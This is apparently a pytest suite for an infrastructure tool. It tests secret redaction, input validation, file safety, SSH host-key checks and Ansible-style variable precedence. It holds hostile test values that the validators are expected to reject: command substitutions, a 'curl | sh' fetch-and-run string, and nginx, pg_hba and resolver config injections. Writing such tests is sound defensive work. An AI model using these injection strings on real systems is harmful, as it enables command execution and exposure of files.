"""Trust: secrets never printed, data never runs as code, bad input never loses work, Ansible semantics."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import INVENTORY

from deploys import ad_join, ca_trust, nginx, pg_auth
from hxinfra import secrets as vault
from hxinfra.cli import main
from hxinfra.datafiles import parse_extra_vars
from hxinfra.errors import HxError, InventoryError
from hxinfra.inventory import load_environment
from hxinfra.known_hosts import HostKey, read_known, status
from hxinfra.runner import _prepare_secrets

pytestmark = pytest.mark.usefixtures("fresh_keyring")


def pwfile(path: Path, password: str) -> Path:
    path.write_text(password + "\n")
    path.chmod(0o600)
    return path


def write_raw(project, rel: str, text: str) -> None:
    """A project file as given (the ``project`` writer dedents, which would break a !vault block)."""
    path = project.root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def run(*args: str, input: str | None = None):
    return CliRunner().invoke(main, list(args), input=input)


# ------------------------------------------------------------------ secrets never printed
NESTED = (
    "pg_auth_roles:\n  - name: hx_app\n    password: Nested-Role-Pass-1\n"
    "vault_admin: {user: admin, pass: Dict-Pass-22}\n"
)


@pytest.fixture
def nested_vault(project):
    project("inventories/demo.py", INVENTORY)
    pwfile(project.root / ".vault_pass", "grp-pw")
    project("inventories/group_vars/database_servers/vault.yml", vault.encrypt(NESTED.encode(), b"grp-pw"))
    return project


@pytest.mark.parametrize("flags", [(), ("--json",), ("--explain",), ("--explain", "--json")])
def test_inventory_host_masks_whole_file_vault_values_at_any_depth(nested_vault, flags):
    r = run("inventory", "host", "db1", "--env", "demo", *flags)
    assert r.exit_code == 0, r.output
    assert "Nested-Role-Pass-1" not in r.output and "Dict-Pass-22" not in r.output
    assert "hx_app" not in r.output or "********" in r.output  # the whole-file values are masked, names too
    assert "********" in r.output


def test_plain_pyinfra_debug_inventory_masks_every_vault_value(nested_vault):
    env = {**os.environ, "HXINFRA_PROJECT": str(nested_vault.root)}
    env.pop("HXINFRA_EXTRA_VARS", None)
    r = subprocess.run(
        [sys.executable, "-m", "pyinfra", "inventories/demo.py", "debug-inventory"],
        cwd=nested_vault.root,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert r.returncode == 0, r.stderr[-2000:]
    assert "db1" in r.stdout + r.stderr and "********" in r.stdout + r.stderr
    assert "Nested-Role-Pass-1" not in r.stdout + r.stderr and "Dict-Pass-22" not in r.stdout + r.stderr


def test_a_vaulted_non_pem_value_is_never_read_as_a_path_nor_printed(project):
    secret = vault.Secret("NotAPemKeyButSecret-Juliet")
    with pytest.raises(HxError) as e:
        ca_trust.config.resolve_host_certs({"ca_trust_host_certs": [{"name": "x", "cert": secret, "key": secret}]})
    assert "never read as a file path" in str(e.value) and "Juliet" not in str(e.value)


def test_transformed_secrets_are_redacted():
    vault.register_secret("Kilo-Pass'99")
    for form in ("Kilo-Pass'99", "'Kilo-Pass'\"'\"'99'", "Kilo-Pass''99", "KILO-PASS'99", "kilo-pass'99"):
        assert "********" in vault.redact(f"x = {form}") and "Kilo" not in vault.redact(f"x = {form}").title()
    vault.register_secret("a7z")  # a short secret: masked where it stands alone, not inside words
    assert vault.redact("password = a7z") == "password = ********"
    assert vault.redact("the a7zebra") == "the a7zebra"


def test_plan_never_holds_a_secret_in_any_form(project, tmp_path):
    project("inventories/demo.py", INVENTORY)
    pwfile(project.root / ".vault_pass", "grp-pw")
    setting = "pg_auth_settings: {ssl_passphrase_command: \"echo 'Kilo-Pass-99'\"}\n"
    project("inventories/group_vars/database_servers/vault.yml", vault.encrypt(setting.encode(), b"grp-pw"))
    r = run("plan", "--env", "demo", "--out", str(tmp_path / "plan"))
    assert r.exit_code == 0, r.output
    text = "".join(p.read_text() for p in (tmp_path / "plan").rglob("*") if p.is_file())
    assert "Kilo" not in text and "KILO" not in text and "vaulted-value-" in text


def test_plan_works_without_a_vault_password(project, tmp_path, monkeypatch):
    """The CI plan job has none: inline values are placeholders, a whole-file vault stays sealed."""
    project("inventories/demo.py", INVENTORY)
    project("inventories/group_vars/database_servers/vault.yml", vault.encrypt(b"vault_db_pw: x1-secret\n", b"pw"))
    project(
        "inventories/group_vars/database_servers/main.yml",
        """\
        pg_auth_roles: [{name: hx_app, password: "{{ vault_db_pw }}"}]
        pg_auth_databases: [{name: hxapp, owner: hx_app}]
    """,
    )
    r = run("plan", "--env", "demo", "--out", str(tmp_path / "plan"))
    assert r.exit_code == 0, r.output
    assert "### /etc/postgresql/15/main/pg_hba.conf  file 0640" in (tmp_path / "plan" / "db1.plan").read_text()
    r = run("inventory", "host", "db1", "--env", "demo", "--json")
    assert r.exit_code == 0 and json.loads(r.stdout)["pg_auth_roles"][0]["password"] == "********"
    assert "database_servers/vault.yml" in r.stderr and "no vault password" in r.stderr  # said, not hidden


def test_deploy_needs_only_the_vault_ids_its_hosts_read(project):
    project("inventories/demo.py", INVENTORY)
    pwfile(project.root / "web-pass", "web-pw")
    project(
        "inventories/group_vars/web_servers.yml",
        "nginx_server_name: " + vault.vault_block(vault.encrypt(b"shop.example", b"web-pw", "web"), 2),
    )
    project("inventories/group_vars/database_servers/vault.yml", vault.encrypt(b"vault_x: 1\n", b"db-pw", "db"))
    keyring = vault.keyring_from_sources(vault_ids=[f"web@{project.root / 'web-pass'}", "db@/nonexistent/db-pass"])
    vault.set_default_keyring(keyring)
    env = load_environment(project.root / "inventories/demo.py")
    assert _prepare_secrets(env, keyring, ["web1"], "nginx")  # the db vault id's missing file does not matter
    with pytest.raises(vault.VaultError) as e:
        _prepare_secrets(env, keyring, ["db1"], "site")
    assert "database_servers/vault.yml" in str(e.value) and "'db'" in str(e.value)


def test_references_to_vault_values(project):
    project("inventories/demo.py", INVENTORY)
    block = vault.vault_block(vault.encrypt(b"Ref-Secret-77", b"pw"), 2)
    write_raw(
        project,
        "inventories/group_vars/all.yml",
        f"vault_db_password: {block}nginx_server_name: '{{{{ hx_domain }}}}'\nad_join_ou: 'OU={{{{ vault_db_password }}}}'\n",  # noqa: E501
    )
    pwfile(project.root / ".vault_pass", "pw")
    env = load_environment(project.root / "inventories/demo.py")
    data = env.host_data("web1")
    assert data["nginx_server_name"] == "demo.example"
    assert str(data["ad_join_ou"]) == "********" and data["ad_join_ou"].reveal() == "OU=Ref-Secret-77"
    # a vault key the vault does not hold (yet, or a typo): said at load, an error where a deploy needs it
    project("inventories/demo/host_vars/web1.yml", 'nginx_site_name: "{{ vault_db_pasword }}"\n')
    env = load_environment(project.root / "inventories/demo.py")
    assert any("vault_db_pasword is referenced but not defined" in w for w in env.warnings)
    with pytest.raises(vault.VaultError, match="vault_db_pasword is not defined"):
        vault.reveal(env.host_data("web1")["nginx_site_name"])
    with pytest.raises(vault.VaultError, match="vault_db_pasword"):
        _prepare_secrets(env, vault.default_keyring(), ["web1"], "nginx")
    project("inventories/demo/host_vars/web1.yml", 'nginx_site_name: "{{ nginx_site_nme }}"\n')  # not a secret
    with pytest.raises(InventoryError, match="key nginx_site_nme .*is not defined"):
        load_environment(project.root / "inventories/demo.py")


# ------------------------------------------------------------------ no injection from data
HOSTILE = ["$(touch /tmp/PWNED)", "a;b", "`id`", "x'y", 'x"y', "a\nb"]


@pytest.mark.parametrize(
    ("component", "key", "value", "message"),
    [
        (nginx, "nginx_site_name", "../../x", "not a valid name"),
        (nginx, "nginx_security_headers", {"X-A": 'x" always; location /leak { alias /etc/; } #'}, "may not hold"),
        (nginx, "nginx_server_name", "a.example; location /x {}", "not a DNS name"),
        (nginx, "nginx_upstream_host", "127.0.0.1:1; evil", "not a DNS name"),
        (pg_auth, "pg_auth_cluster", "main/../..", "not a valid name"),
        (
            pg_auth,
            "pg_auth_hba",
            [
                {
                    "database": "a",
                    "user": "b",
                    "address": "10.0.0.1/32",
                    "options": "clientcert=verify-full\nhost all all 0.0.0.0/0 trust",
                }
            ],
            "one line",
        ),
        (
            pg_auth,
            "pg_auth_hba",
            [{"database": "a", "user": "b", "address": "10.0.0.1/32", "options": "trust"}],
            "is not one of",
        ),
        (pg_auth, "pg_auth_roles", [{"name": "hx_app\n"}], "must match"),
        (pg_auth, "pg_auth_roles", [{"name": "hx_app", "connection_limit": "lots"}], "connection_limit"),
        (ad_join, "ad_join_sudo_rules", [{"group": "ops,ALL", "commands": "ALL"}], "not a valid name"),
        (ad_join, "ad_join_sudo_rules", [{"group": "ops", "comands": "/bin/true"}], "unknown field"),
        (ad_join, "ad_join_dns_servers", ["10.0.0.1\nnameserver 6.6.6.6"], "one line"),
        (ad_join, "ad_join_dns_servers", ["not-an-ip"], "not an IP address"),
        (ad_join, "ad_join_domain", "x$(touch /tmp/PWNED)", "not a DNS name"),
        (ad_join, "ad_join_default_shell", "/bin/bash\nad_gpo_access_control = disabled", "one line"),
        (ca_trust, "ca_trust_log_dir", "/var/log/hx; curl -s http://x | sh #", "must be an absolute path"),
        (ca_trust, "ca_trust_host_certs", [{"name": "w", "cert": "c", "key": "k", "key_mode": "0644"}], "key_mode"),
    ],
)
def test_hostile_values_are_refused_before_anything_connects(component, key, value, message):
    data = {**component.DEFAULTS, "hx_domain": "demo.example", "hx_realm": "DEMO.EXAMPLE", key: value}
    problems = component.COMPONENT.check(data)
    from hxinfra.components import one_line_problems

    problems += one_line_problems(key, value)
    assert problems and any(message in p for _k, p in problems), problems


@pytest.mark.parametrize("value", HOSTILE)
def test_no_hostile_value_passes_any_name_or_path_check(value):
    from hxinfra.validate import DataError, abs_path, dns_name, name

    for check in (name, dns_name, abs_path):
        with pytest.raises(DataError):
            check(value, "k")


def test_config_paths_must_be_plain():
    from pyinfra.api.exceptions import OperationValueError

    from hxinfra.desired import ManagedFile
    from hxinfra.ops.configset import _check_items

    with pytest.raises(OperationValueError):
        _check_items([ManagedFile("/etc/nginx/sites-available/../../../x.conf", "")])


# ------------------------------------------------------------------ bad input never loses work
def test_plan_out_refuses_a_directory_that_is_not_a_plan(project, tmp_path):
    project("inventories/demo.py", INVENTORY)
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "notes.txt").write_text("keep me")
    r = run("plan", "--env", "demo", "--out", str(precious))
    assert r.exit_code == 1 and "refusing" in r.output and (precious / "notes.txt").read_text() == "keep me"
    r = run("plan", "--env", "demo", "--out", ".")  # the project itself
    assert r.exit_code == 1 and (project.root / "inventories/demo.py").is_file()
    assert run("plan", "--env", "demo", "--out", str(tmp_path / "p")).exit_code == 0
    assert run("plan", "--env", "demo", "--out", str(tmp_path / "p")).exit_code == 0  # an earlier plan is replaced


def test_vault_create_into_a_new_directory_keeps_what_was_typed(tmp_path, monkeypatch):
    editor = tmp_path / "editor.sh"
    editor.write_text('#!/bin/sh\necho "vault_x: typed" > "$1"\n')
    editor.chmod(0o755)
    monkeypatch.setenv("EDITOR", str(editor))
    pw = pwfile(tmp_path / "pw", "pw")
    target = tmp_path / "new" / "dir" / "vault.yml"
    r = run("vault", "create", str(target), "--vault-password-file", str(pw))
    assert r.exit_code == 0, r.output
    assert vault.Keyring([("default", b"pw")]).decrypt(target.read_text()) == b"vault_x: typed\n"


def test_vault_decrypt_in_place_is_private(tmp_path):
    pw = pwfile(tmp_path / "pw", "pw")
    f = tmp_path / "v.yml"
    f.write_text(vault.encrypt(b"vault_x: 1\n", b"pw"))
    f.chmod(0o644)
    assert run("vault", "decrypt", str(f), "--vault-password-file", str(pw)).exit_code == 0
    assert stat.S_IMODE(f.stat().st_mode) == 0o600


def test_vault_write_errors_are_one_line_and_change_nothing(tmp_path):
    pw = pwfile(tmp_path / "pw", "pw")
    f = tmp_path / "v.yml"
    f.write_text(vault.encrypt(b"vault_x: 1\n", b"pw"))
    r = run("vault", "decrypt", str(f), "--output", str(tmp_path / "missing" / "x"), "--vault-password-file", str(pw))
    assert r.exit_code == 1 and "cannot write" in r.output and "Traceback" not in r.output
    assert vault.is_encrypted(f.read_text())


def test_run_log_refuses_symlinks_and_fixes_the_mode(tmp_path):
    from hxinfra.runlog import RunLog

    target = tmp_path / "elsewhere"
    target.write_text("")
    (tmp_path / "link.log").symlink_to(target)
    with pytest.raises(HxError, match="symlink"):
        RunLog(tmp_path / "link.log")
    existing = tmp_path / "old.log"
    existing.write_text("")
    existing.chmod(0o644)
    RunLog(existing).close()
    assert stat.S_IMODE(existing.stat().st_mode) == 0o600


def test_a_lab_that_does_not_exist_is_an_error_and_nothing_is_created(project, tmp_path, monkeypatch):
    from conftest import ROOT

    monkeypatch.chdir(ROOT)
    monkeypatch.setenv("HXINFRA_PROJECT", str(ROOT))
    monkeypatch.setenv("HXINFRA_LAB_ROOT", str(tmp_path / "labroot"))
    monkeypatch.setenv("HXINFRA_LAB", "typo")
    r = run("inventory", "list", "--env", "lab")
    assert r.exit_code == 1 and "lab 'typo' does not exist" in r.output
    assert not (tmp_path / "labroot" / "labs" / "typo").exists()


def test_usage_errors_exit_1_with_detailed_exitcode(project):
    project("inventories/demo.py", INVENTORY)
    assert run("deploy", "site", "--env", "demo", "--no-such-flag").exit_code == 2
    assert run("deploy", "site", "--env", "demo", "--no-such-flag", "--detailed-exitcode").exit_code == 1
    assert run("plan", "--env", "demo", "--detailed-exitcode").exit_code == 1  # neither --out nor --against


# ------------------------------------------------------------------ SSH host keys
def test_environments_check_host_keys_strictly_against_their_own_file(project):
    project("inventories/demo.py", INVENTORY)
    data = load_environment(project.root / "inventories/demo.py").host_data("web1")
    assert data["ssh_strict_host_key_checking"] == "yes"
    assert data["ssh_known_hosts_file"] == str(project.root / "inventories/demo/known_hosts")


def test_known_hosts_status_and_fingerprints(tmp_path):
    key = HostKey("ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl")
    assert key.fingerprint == "SHA256:" + __import__("base64").b64encode(
        __import__("hashlib").sha256(__import__("base64").b64decode(key.blob)).digest()
    ).decode().rstrip("=")
    f = tmp_path / "known_hosts"
    f.write_text(f"# comment\n192.0.2.10,web1 {key.kind} {key.blob}\n")
    known = read_known(f)
    other = HostKey("ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAIB7h1f2vbeVlO2Z9vX0m0bq2rG3bUuQm6mO0b1b3c4d5")
    assert status(known["192.0.2.10"], [key]) == "ok"
    assert status(known["192.0.2.10"], [other]) == "CHANGED"
    assert status(set(), [key]) == "new" and status(known["web1"], []) == "unreachable"


# ------------------------------------------------------------------ as Ansible users expect
def test_extra_vars_are_strings_as_in_ansible_and_typed_when_structured(tmp_path):
    values = parse_extra_vars(["a=0123 b=12:30", "c=yes d=1.10", '{"n": 3, "l": [1]}'])
    assert values == {"a": "0123", "b": "12:30", "c": "yes", "d": "1.10", "n": 3, "l": [1]}
    f = tmp_path / "v.yml"
    f.write_text("port: 3100\n")
    assert parse_extra_vars([f"@{f}"]) == {"port": 3100}
    with pytest.raises(HxError):
        parse_extra_vars(["not-a-pair"])


def test_extra_var_strings_become_the_schema_type(project):
    project("inventories/demo.py", INVENTORY)
    env = load_environment(
        project.root / "inventories/demo.py", extra_vars=parse_extra_vars(["nginx_upstream_port=3200 nginx_gzip=no"])
    )
    data = env.host_data("web1")
    assert data["nginx_upstream_port"] == 3200 and data["nginx_gzip"] is False
    with pytest.raises(InventoryError, match="expected int, got str"):
        load_environment(project.root / "inventories/demo.py", extra_vars=parse_extra_vars(["nginx_upstream_port=x"]))


GROUPED = """
from deploys import components as _components
from hxinfra.inventory import environment as _environment

_env = _environment(
    __file__,
    data={"hx_environment": "demo", "hx_domain": "demo.example"},
    hosts={
        "db2": {"address": "192.0.2.21", "groups": ["replicas"]},
        "db1": {"address": "192.0.2.20", "groups": ["primary_db", "aaa"]},
    },
    children={"database_servers": ["primary_db", "replicas"]},
    components=_components(),
)
globals().update(_env.pyinfra_groups())
"""


def test_group_precedence_follows_ansible(project):
    project("inventories/demo.py", GROUPED)
    project("inventories/group_vars/database_servers.yml", "pg_auth_port: 5001\n")
    project("inventories/group_vars/primary_db.yml", "pg_auth_port: 5002\n")  # child beats parent
    project("inventories/group_vars/aaa.yml", "pg_auth_port: 5003\n")  # same depth as database_servers: by name
    env = load_environment(project.root / "inventories/demo.py")
    assert env.host_groups(env.host("db1")) == ["aaa", "database_servers", "primary_db"]
    assert env.host_data("db1")["pg_auth_port"] == 5002 and env.host_data("db2")["pg_auth_port"] == 5001
    project("inventories/group_vars/database_servers.yml", "pg_auth_port: 5001\nhx_group_priority: 5\n")
    project("inventories/group_vars/aaa.yml", "pg_auth_port: 5003\nhx_group_priority: 9\n")
    env = load_environment(project.root / "inventories/demo.py")
    assert env.host_groups(env.host("db1")) == ["database_servers", "aaa", "primary_db"]
    assert env.groups["database_servers"] == ["db1", "db2"]  # the group's own order: its children in order


def test_keys_from_ansible_group_vars_are_kept_with_a_warning_and_typos_still_fail(project):
    project("inventories/demo.py", INVENTORY)
    project("inventories/group_vars/all.yml", "ntp_servers: [a, b]\nbackup_retention_days: 7\n")
    env = load_environment(project.root / "inventories/demo.py")
    assert env.host_data("web1")["ntp_servers"] == ["a", "b"]
    assert any("ntp_servers" in w and "no component reads it" in w for w in env.warnings)
    project("inventories/group_vars/all.yml", "ssh_prot: 22\n")
    with pytest.raises(InventoryError, match="did you mean ssh_port"):
        load_environment(project.root / "inventories/demo.py")


def test_lab_mirror_setting_then_apt_sources_then_debootstraps_default(monkeypatch):
    from hxinfra.lab import image as core

    monkeypatch.setenv("HXINFRA_LAB_MIRROR", "http://mirror.invalid/debian")
    monkeypatch.delenv("HXINFRA_LAB_SECURITY_MIRROR", raising=False)
    assert core.mirrors() == ("http://mirror.invalid/debian", "http://mirror.invalid/debian-security")
    monkeypatch.delenv("HXINFRA_LAB_MIRROR")
    monkeypatch.setattr(core, "_apt_sources", lambda: ("http://apt.invalid/debian", "http://sec.invalid/x"))
    assert core.mirrors() == ("http://apt.invalid/debian", "http://sec.invalid/x")
    monkeypatch.setattr(core, "_apt_sources", lambda: ("", ""))  # an Ubuntu runner: no Debian mirror in apt
    monkeypatch.setattr(core, "_debootstrap_default", lambda: "http://default.invalid/debian")
    assert core.mirrors() == ("http://default.invalid/debian", "http://default.invalid/debian-security")


def test_lab_raises_inotify_limits_up_front_for_many_hosts(tmp_path, monkeypatch):
    """32 hosts stopped at the 23rd on the kernel's default of 128 inotify instances: checked first now."""
    from hxinfra.lab import system

    proc = tmp_path / "inotify"
    proc.mkdir()
    (proc / "max_user_instances").write_text("128\n")
    (proc / "max_user_watches").write_text("65536\n")
    real = Path

    def fake(path, *rest):
        text = str(path)
        return real(str(proc)) if text == "/proc/sys/fs/inotify" else real(path, *rest)

    monkeypatch.setattr(system, "Path", fake)
    said: list[str] = []
    system.ensure_inotify_limits(7, said.append)
    assert said == [] and (proc / "max_user_instances").read_text() == "128\n"  # 7 hosts fit
    system.ensure_inotify_limits(32, said.append)
    assert int((proc / "max_user_instances").read_text()) >= 32 * 8 and any("max_user_instances" in s for s in said)
    assert int((proc / "max_user_watches").read_text()) >= 32 * 4096


def test_an_unreferenced_vault_key_is_said_as_a_likely_typo(project):
    project("inventories/demo.py", INVENTORY)
    block = vault.vault_block(vault.encrypt(b"x-Secret-1", b"pw"), 2)
    write_raw(
        project,
        "inventories/group_vars/all.yml",
        f"vault_db_pasword: {block}ad_join_ou: '{{{{ vault_db_password }}}}'\n",
    )
    env = load_environment(project.root / "inventories/demo.py")
    assert any(
        "vault_db_pasword is defined but no key references it; did you mean vault_db_password?" in w
        for w in env.warnings
    )
    assert any("vault_db_password is referenced but not defined" in w for w in env.warnings)
